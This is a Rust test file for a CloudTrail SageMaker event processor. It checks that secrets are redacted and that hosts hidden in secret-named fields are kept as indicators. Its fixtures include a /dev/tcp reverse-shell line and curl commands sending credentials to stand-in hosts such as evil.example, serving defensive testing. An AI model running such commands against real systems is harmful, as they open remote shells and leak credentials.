//! Hosts and addresses beside secrets, or under the names of some.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use super::{KNOWLEDGE, document_of, unfolded};

#[test]
fn a_password_that_only_looks_like_an_address_is_gone() {
    for (secret, is_host) in [
        ("AA://AA^*!00", false),
        ("p4://(x)=9~w", false),
        ("http://h^nter2", false),
        ("http://évil.example", true),
        ("http://[2001:db8::1]:8080", true),
        ("http://evil%2eexample", true),
        ("http://$HOST", true),
    ] {
        let record = json!({
            "eventSource": "sagemaker.amazonaws.com", "eventName": "CreateTrainingJob",
            "requestParameters": {"environment": {"API_TOKEN": secret}},
        });
        let document = document_of(&record.to_string(), &KNOWLEDGE);
        let source = std::str::from_utf8(&document.source).unwrap();
        assert_eq!(source.contains(secret), is_host, "{secret}: {source}");
    }
}

#[test]
fn a_host_under_the_name_of_a_secret_is_an_indicator_and_the_rest_is_gone() {
    for (line, host, secret) in [
        ("export API_TOKEN=http://evil.example/hunter2; curl $API_TOKEN", "evil.example", "hunter2"),
        ("PASSWORD='https://u:hunter2@evil.example:8443/y'", "evil.example", "hunter2"),
        ("run --token http://203.0.113.9/hunter2x", "203.0.113.9", "hunter2x"),
        ("SECRET=/dev/tcp/203.0.113.9/4444; bash -i >& $SECRET", "203.0.113.9", "nothing"),
        (
            "curl -u me:hunter2 https://ghp_0123456789abcdefghijABCDEFGHIJ012345.evil.example/",
            "ghp_0123456789abcdefghijabcdefghij012345.evil.example",
            "hunter2",
        ),
    ] {
        let record = json!({
            "eventSource": "sagemaker.amazonaws.com", "eventName": "CreateNotebookInstanceLifecycleConfig",
            "requestParameters": {"onStart": [{"content": STANDARD.encode(line)}]},
        });
        let document = document_of(&record.to_string(), &KNOWLEDGE);
        let source: Value = serde_json::from_slice(&document.source).unwrap();
        let indicators = source["sagemaker"]["lifecycle"]["indicators"].to_string();
        assert!(indicators.contains(host), "{line}: {source}");
        let mut all = source.to_string();
        unfolded(source["event"]["original"].as_str().unwrap(), 2, &mut all);
        assert!(!all.contains(secret), "{line}: {all}");
    }
}
